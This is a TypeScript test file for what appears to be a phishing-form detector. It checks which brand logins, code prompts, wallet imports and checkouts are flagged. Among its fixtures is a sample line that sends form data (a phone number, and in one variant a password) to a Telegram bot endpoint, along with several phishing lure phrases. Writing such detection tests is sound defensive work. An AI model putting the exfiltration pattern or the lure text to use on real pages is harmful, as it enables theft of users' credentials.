import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
import { observed, PAGE, slugsOf } from '../../support/detected.ts';
import { requestOf } from '../../support/running-farm.ts';

describe('§2.5.13 logins, checkouts and wallets that share words with phishing', () => {
  const form = (facts: Partial<ObservationOf<'form'>['facts']>, url = PAGE) =>
    observed('form', { fields: ['password'], action_url: `${url}/next`, text: 'Sign in', ...facts }, 0, url);

  it('pages below the own top-level domain of a brand, and its sign-in pages in other clouds, are its own', () => {
    const found = (brand: string, url: string) =>
      slugsOf({ title: `Log in to your ${brand} account`, url }, [form({}, url)]).length > 0;
    for (const [brand = '', url = ''] of [
      ['DHL', 'https://mydhl.express.dhl/login'],
      ['Google', 'https://about.google/'],
      ['Microsoft', 'https://login.microsoftonline.us/common'],
      ['Microsoft', 'https://m365.cloud.microsoft/'],
      ['iCloud', 'https://www.icloud.com.cn/'],
      ['Santander', 'https://www.santanderbank.com/'],
    ])
      assert.equal(found(brand, url), false, url);
    for (const [brand = '', url = ''] of [
      ['DHL', 'https://express-dhl.example/login'],
      ['DHL', 'https://login.google/'],
      ['Microsoft', 'https://microsoft.live/'],
      ['Apple', 'https://apple.me/'],
    ])
      assert.equal(found(brand, url), true, url);
  });

  it('a form for a code that names the mailbox to which it was sent is no phishing_form, one for the code of an account is', () => {
    const code = (text: string) => slugsOf({}, [form({ fields: ['one_time_code'], text })]);
    for (const text of [
      'Check the inbox of your Google account: we have sent you a verification code.',
      'Wir haben einen Code an Ihr Microsoft-Konto gesendet.',
      'We have sent the code to the address of your Yahoo account.',
    ])
      assert.deepEqual(code(text), [], text);
    assert.deepEqual(code('We have sent a code to the phone of your PayPal account.'), ['phishing_form']);
    assert.deepEqual(code('Enter the code of your Google account to unlock it.'), ['phishing_form']);
  });

  it('a login beside code that only shows the endpoint of a messenger, or a bundle that writes to one, is no phishing_form', () => {
    const sends = 'fetch("https://api.telegram.org/bot1:a/sendMessage",{body:phone.value})';
    const filler = ';var a=1'.repeat(3_000);
    const bodyOf = (text: string) => [
      { url: PAGE, resource_type: 'script', content_type: '', bytes: text.length, text },
    ];
    const shown = (html: string) => slugsOf({ html }, [form({})]);
    assert.deepEqual(shown(`<pre>${sends}</pre><a href="https://api.telegram.org/bot1:a/getMe">try</a>`), []);
    assert.deepEqual(shown(`<script>${sends}</script>`), ['phishing_form']);
    assert.deepEqual(shown(`<form onsubmit="fetch('https://api.telegram.org/bot1:a/sendMessage')">`), [
      'phishing_form',
    ]);
    const loaded = (script: string) => slugsOf({}, [form({})], { bodies: bodyOf(script) });
    assert.deepEqual(loaded(`password:!0${filler}${sends}${filler}`), []);
    assert.deepEqual(loaded(`${filler}${sends}${filler}${sends.replace('phone', 'pass')}`), ['phishing_form']);
    assert.deepEqual(loaded(sends), ['phishing_form']);
  });

  it('buttons of other logins with the pictures of their brands are no phishing_form', () => {
    const withPicture = (text: string, url: string) =>
      slugsOf({}, [form({ text })], { requests: [requestOf(1, { url, resource_type: 'image', landing: 0 })] });
    const icon = 'https://www.google.com/favicon.ico';
    assert.deepEqual(withPicture('E-mail\nPassword\n- or -\nGoogle', icon), []);
    assert.deepEqual(withPicture('E-mail\nPassword\nGoogle\nFacebook', icon), []);
    assert.deepEqual(withPicture('Google\nWelcome back', icon), ['phishing_form']);
    assert.deepEqual(withPicture('PayPal\nWelcome back\nor', 'https://www.paypal.com/logo.svg'), ['phishing_form']);
  });

  it('labels of other logins, codes of an app and a badge of a store are no phishing_form', () => {
    const withText = (text: string, facts: object = {}) => slugsOf({}, [form({ text, ...facts })]);
    for (const text of [
      'E-mail\nPassword\nor\nGoogle account\nMicrosoft account',
      'メールアドレス\nパスワード\nGoogle アカウントでログイン',
      'E-posta\nŞifre\nGoogle hesabınızla giriş yapın',
      'Почта\nПароль\nВойти с помощью Google аккаунта',
      'E-Mail\nPasswort\nÜber Google Konto anmelden',
      'Link external accounts: Chase, Wells Fargo, Bank of America\nPassword',
      'Watch films together. You need a Netflix account.\nPassword',
      'Create an account\nPassword\nLink your Chase account\nImport your Coinbase account',
      'Su cuenta de correos institucional\nContraseña',
    ])
      assert.deepEqual(withText(text), [], text);
    assert.deepEqual(slugsOf({ title: 'Acceder a correos' }, [form({ text: 'Usuario\nContraseña' })]), []);
    const code = 'Enter the code of Google Authenticator for your account';
    assert.deepEqual(withText(code, { fields: ['one_time_code'] }), []);
    const badge = 'https://play.google.com/intl/en_us/badges/static/images/badges/en_badge_web_generic.png';
    const requests = [requestOf(1, { url: badge, resource_type: 'image', landing: 0 })];
    assert.deepEqual(slugsOf({}, [form({ text: 'Log in\nGet it on Google Play' })], { requests }), []);
    for (const text of ['or\nConfirm your Google password', 'Confirm your Chase, Wells Fargo account'])
      assert.deepEqual(withText(text), ['phishing_form'], text);
  });

  it('a form that imports a wallet by its phrase is no phishing_form', () => {
    const text = 'Import your wallet\nEnter your recovery phrase. Never share it to claim an airdrop for your wallet.';
    assert.deepEqual(slugsOf({ text }, [form({ fields: ['seed_phrase'], text })]), []);
  });

  it('an account that a checkout lists among the ways to pay is no phishing_form', () => {
    const checkout = 'Zahlungsart\nKreditkarte\nPayPal Konto\nRechnung\nKartennummer\nPrüfziffer';
    const slugs = (text: string) => slugsOf({ title: 'Kasse' }, [form({ fields: ['card_number', 'password'], text })]);
    assert.deepEqual(slugs(checkout), []);
    assert.deepEqual(slugs('Credit card\nKlarna\nPayPal account\nCard number'), []);
    assert.deepEqual(slugs('PayPal Konto\nKartennummer\nPrüfziffer'), ['phishing_form']);
    assert.deepEqual(slugs(`${checkout.replaceAll('\n', ' ')} Passwort bestätigen`), []);
    const restricted = checkout.replace('PayPal Konto', 'Ihr PayPal Konto ist eingeschränkt');
    assert.deepEqual(slugs(restricted), ['phishing_form']);
    assert.deepEqual(slugs(checkout.replace('PayPal Konto', 'Sparkasse Konto')), ['phishing_form']);
  });

  it('the logo of a brand beside the choice of a way to pay is no phishing_form on the domain of a shop', () => {
    const slugs = (text: string, fields: ObservationOf<'form'>['facts']['fields'] = ['card_number', 'card_code']) =>
      slugsOf({ title: 'Checkout' }, [form({ fields, text })], {
        requests: [requestOf(1, { url: 'https://www.paypal.com/logo.svg', resource_type: 'image', landing: 0 })],
      });
    for (const text of [
      'Pay with\nCard\nPayPal\nCard number\nSecurity code\nPay now',
      'Payment\nPayPal\nCredit card\nCard number',
      'Zahlungsart\nKreditkarte\nPayPal\nKartennummer\nPrüfziffer',
      'Moyen de paiement\nCarte bancaire\nPayPal\nNuméro de carte',
      'Forma de pago\nTarjeta\nPayPal\nNúmero de tarjeta',
      'Visa\nMastercard\nPayPal\nCard number',
    ])
      assert.deepEqual(slugs(text), [], text);
    for (const text of [
      'PayPal: bitte bestätigen Sie Ihre Karte.\nKartennummer\nPrüfziffer',
      'PayPal\nUpdate your card\nCard number',
      'Your PayPal account is limited\nCard\nPayPal\nCard number',
    ])
      assert.deepEqual(slugs(text), ['phishing_form'], text);
    const account = 'Pay with\nCard\nPayPal\nCard number\nPassword of your new account';
    assert.deepEqual(slugs(account, ['card_number', 'password']), []);
    assert.deepEqual(slugs('Card\nPayPal\nPassword', ['password']), ['phishing_form']);
  });

  it('a form without a server of its own that asks for the number of an identity card is no phishing_form', () => {
    const sent = (fields: ObservationOf<'form'>['facts']['fields']) =>
      slugsOf({}, [form({ fields, action_url: 'https://script.google.com/macros/s/1/exec' })]);
    assert.deepEqual(sent(['personal_id', 'phone']), []);
    assert.deepEqual(sent(['personal_id', 'card_number']), ['phishing_form']);
  });

  it('a form that asks for an account of a messenger as a contact is no phishing_form', () => {
    const signUp = (text: string) => slugsOf({}, [form({ text })]);
    assert.deepEqual(signUp('E-mail\nPassword\nTelegram account\nYour LinkedIn account'), []);
    assert.deepEqual(signUp('Sign in to your Telegram account'), ['phishing_form']);
    assert.deepEqual(signUp('Your Facebook account will be disabled'), ['phishing_form']);
    assert.deepEqual(signUp('Your PayPal account'), ['phishing_form']);
  });
});
